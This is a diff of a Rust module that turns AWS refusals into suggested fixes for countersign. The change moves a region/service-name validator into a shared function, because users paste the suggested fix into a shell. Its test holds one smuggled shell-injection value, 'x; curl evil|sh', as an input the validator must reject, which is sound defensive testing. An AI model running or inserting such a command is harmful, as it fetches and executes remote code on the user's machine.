@@ -1,6 +1,6 @@
 //! How to fix what AWS refuses, in the options of countersign and the commands of the AWS CLI.
 
-use crate::diagnose::{Diagnosis, Evidence, FORBIDDEN, synchronize_clock};
+use crate::diagnose::{Diagnosis, Evidence, FORBIDDEN, is_label, synchronize_clock};
 use crate::sign::credentials::ENVIRONMENT;
 use crate::upstream::{Endpoint, UpstreamKind, WAF};
 
@@ -96,15 +96,8 @@ pub(super) fn throttled(endpoint: &Endpoint) -> &'static str {
 fn expected_scope(diagnosis: &Diagnosis) -> Option<&str> {
     let difference = diagnosis.difference.as_ref()?;
     let is_scope = difference.line.starts_with("credential scope");
-    is_scope.then(|| label(&difference.aws)).flatten()
-}
-
-/// Returns a text if it has the form of a region or a service. AWS's text is not trusted, and users paste the
-/// fix into a shell.
-fn label(text: &str) -> Option<&str> {
-    let is_part = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
-    let is_label = (1..=40).contains(&text.len()) && text.bytes().all(is_part);
-    is_label.then_some(text)
+    // AWS's text is not trusted, and users paste the fix into a shell.
+    (is_scope && is_label(&difference.aws)).then_some(difference.aws.as_str())
 }
 
 /// Returns what to do if the API failed, with the ID under which AWS logged the request.
@@ -212,10 +205,10 @@ mod tests {
     #[test]
     fn only_a_region_or_service_is_taken_from_a_text() {
         for text in ["execute-api", "eu-central-1"] {
-            assert_eq!(label(text), Some(text));
+            assert!(is_label(text), "{text:?}");
         }
         for other in ["", "\u{1b}[31m", "x; curl evil|sh", "X", &"a".repeat(41)] {
-            assert_eq!(label(other), None, "{other:?}");
+            assert!(!is_label(other), "{other:?}");
         }
     }
 }
